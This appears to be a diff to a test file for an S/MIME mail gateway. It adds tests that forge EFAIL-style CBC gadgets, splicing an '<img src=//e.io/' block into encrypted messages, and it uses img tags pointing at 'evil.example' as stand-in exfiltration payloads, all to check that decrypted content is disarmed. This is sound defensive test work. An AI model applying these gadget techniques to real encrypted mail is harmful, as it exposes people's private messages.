@@ -3,13 +3,22 @@
 from __future__ import annotations
 
 import base64
+import random
+from dataclasses import replace
 
 import pytest
 
+from smimegw.cms.algorithms import ContentCipher, KeyEncryption
+from smimegw.cms.envelope import Recipient, encrypt
+from smimegw.errors import DecryptionError
 from smimegw.mime.entity import Entity
+from smimegw.smime.decrypt import decrypt
 from smimegw.smime.disarm import disarm
+from smimegw.smime.media_types import EncryptedLayer, layer_of
 from tests.attacks.cast import Cast, html, multipart, p7m
 from tests.attacks.remote import references
+from tests.fakes.smime import ALICE, pkcs7, reader
+from tests.unit.cms.people import compressed
 
 URL = "http://evil.example/?"
 GADGETS = {
@@ -215,8 +224,6 @@ def test_text_around_the_parts_goes_when_it_holds_markup() -> None:
 @pytest.mark.parametrize("inner", [b"opaque", b"compressed"])
 def test_cms_inside_is_no_way_past(inner: bytes) -> None:
     """A mail program would take the layer off and show what is inside (cases J03)."""
-    from tests.unit.cms.people import compressed
-
     armed = html(b"<img src=http://evil.example/s>")
     cast = Cast()
     entity = cast.opaque_signed(armed) if inner == b"opaque" else p7m(compressed(armed))
@@ -238,3 +245,46 @@ def test_files_hidden_in_untyped_text_stay_text() -> None:
     entity = Entity.parse(b"\r\nbegin-base64 644 a.html\r\n" + data + b"\r\n====\r\n")
     assert disarm(entity).content_type.media_type == "text/plain"
     assert disarm(entity).header.all("content-type")
+
+
+# --- EFAIL's own gadgets --------------------------------------------------------------------------
+
+_KNOWN = b"Content-Type: text/html; charset=utf-8\r\nX: 1\r\n\r\n<p>"
+_TEXT = _KNOWN + b"Sesame-4711-Sesame " * 20
+_GADGET = b"<img src=//e.io/"  # one block of 16 octets
+_ATTEMPTS = 200
+
+
+def _with_one_gadget(attempt: int) -> EncryptedLayer:
+    """A block of Eve's, noise before it and after it, in a message that only Alice can read."""
+    rng = random.Random(attempt)
+    to = [Recipient(ALICE.certificate, KeyEncryption.RSA_PKCS1V15)]
+    cipher = ContentCipher.AES_128_CBC
+    octets = b"".join(encrypt([_TEXT], len(_TEXT), to, cipher, rng=rng.randbytes))
+    layer = layer_of(pkcs7(octets))
+    assert isinstance(layer, EncryptedLayer)
+    enveloped = layer.enveloped
+    blocks = b"".join(enveloped.encrypted_content)
+    # The first block decrypts to what is known, xor the vector: so to anything, after its own.
+    known = zip(_TEXT[:16], enveloped.nonce, _GADGET, strict=True)
+    gadget = bytes(a ^ b ^ c for a, b, c in known) + blocks[:16]
+    changed = blocks[:64] + gadget + blocks[96:]
+    return replace(layer, enveloped=replace(enveloped, encrypted_content=(memoryview(changed),)))
+
+
+def test_gadget_between_noise_that_looks_like_text_reaches_nothing() -> None:
+    """A few in a hundred are no noise to us; what they hold is delivered disarmed (T-04, J03)."""
+    opened = []
+    for attempt in range(_ATTEMPTS):
+        try:
+            content = decrypt(_with_one_gadget(attempt), [reader(ALICE)])
+        except DecryptionError:
+            continue
+        assert not content.authenticated
+        opened.append(content.entity)
+    assert 0 < len(opened) < _ATTEMPTS / 10
+    for entity in opened:
+        assert _GADGET in entity.body
+        result = disarm(entity)
+        assert references(b"MIME-Version: 1.0\r\n" + result.raw) == []
+        assert b"e.io" not in result.decoded_body()
